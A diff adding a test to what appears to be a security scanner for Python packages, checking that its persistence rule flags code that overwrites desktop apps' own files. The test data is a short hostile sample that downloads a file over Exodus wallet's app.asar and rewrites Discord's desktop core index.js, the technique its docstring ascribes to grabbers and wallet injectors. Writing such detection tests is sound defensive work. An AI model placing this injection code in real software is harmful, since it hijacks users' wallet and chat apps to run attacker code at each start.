@@ -263,3 +263,24 @@ def test_a_script_dropped_into_the_ipython_startup_folder_is_persistence() -> No
     assert "PV-PERSIST" not in ids(
         run(R, py("HELP = 'see IPython docs on profiles'\n", path="acme/__init__.py"))
     )
+
+
+def test_replacing_a_desktop_apps_own_code_is_injection() -> None:
+    """Grabbers overwrite Discord's ``discord_desktop_core/index.js`` and wallet injectors the
+    ``app.asar`` of Exodus or Atomic: the app then runs their script at every start."""
+    inject = py(
+        "import glob, os, urllib.request\n"
+        "def _patch():\n"
+        "    for res in glob.glob(os.path.join(os.getenv('LOCALAPPDATA'), 'exodus', 'app-*', 'resources')):\n"
+        "        urllib.request.urlretrieve(SRC, os.path.join(res, 'app.asar'))\n"
+        "def _discord(code):\n"
+        "    with open(CORE + '/discord_desktop_core/index.js', 'w') as f:\n"
+        "        f.write(code)\n",
+        stage=Stage.RUNTIME,
+    )
+    found = [f for f in run(R, inject) if f.rule == "PV-PERSIST"]
+    assert found
+    assert all(f.severity is Severity.HIGH for f in found)
+    assert "injection" in found[0].message
+    # naming an Electron archive in a comment is no write
+    assert run(R, py("# the app ships resources/app.asar\nVERSION = 1\n", stage=Stage.RUNTIME)) == []
